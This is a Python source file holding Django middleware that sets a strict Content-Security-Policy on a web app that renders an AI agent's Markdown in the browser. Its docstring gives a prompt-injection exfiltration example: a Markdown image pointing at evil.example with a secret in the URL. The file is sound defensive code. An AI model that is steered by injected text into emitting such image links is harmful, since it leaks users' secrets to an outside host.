"""A Content-Security-Policy on the web app's pages.

The agent's Markdown is rendered in the user's browser. A prompt-injected
`![](https://evil.example/?d=<secret>)` would make the browser call out with whatever the agent
put in the URL; scripts from elsewhere would be worse. The policy allows images, scripts, styles,
fonts and connections from this origin only (plus `data:`/`blob:` images: screenshots and the
VNC canvas), no plugins, no framing, and no form posts to other sites.

It is set on every HTML response except the admin's and the API docs' pages (Django's and
Swagger UI's own assets, not ours), including the ones WhiteNoise serves.
"""

from __future__ import annotations

from collections.abc import Callable

from django.http import HttpRequest, HttpResponse

HEADER = "Content-Security-Policy"
EXEMPT_PREFIXES = ("/admin/", "/api/docs", "/api/schema", "/static/admin/")


def policy(request: HttpRequest) -> str:
    host = request.get_host()
    ws = f"wss://{host}" if request.is_secure() else f"ws://{host}"
    return "; ".join(
        [
            "default-src 'self'",
            "script-src 'self'",
            # Vue binds `style` attributes (progress bars, panel sizes): inline styles stay allowed.
            "style-src 'self' 'unsafe-inline'",
            "img-src 'self' data: blob:",
            "font-src 'self' data:",
            # WebSockets to this origin ('self' covers them in CSP3; older engines need them named).
            f"connect-src 'self' {ws}",
            "worker-src 'self' blob:",
            "object-src 'none'",
            "base-uri 'self'",
            "form-action 'self'",
            "frame-ancestors 'none'",
        ]
    )


class ContentSecurityPolicyMiddleware:
    def __init__(self, get_response: Callable[[HttpRequest], HttpResponse]) -> None:
        self.get_response = get_response

    def __call__(self, request: HttpRequest) -> HttpResponse:
        response = self.get_response(request)
        content_type = response.get("Content-Type", "")
        if (
            content_type.startswith("text/html")
            and HEADER not in response
            and not request.path.startswith(EXEMPT_PREFIXES)
        ):
            response[HEADER] = policy(request)
        return response
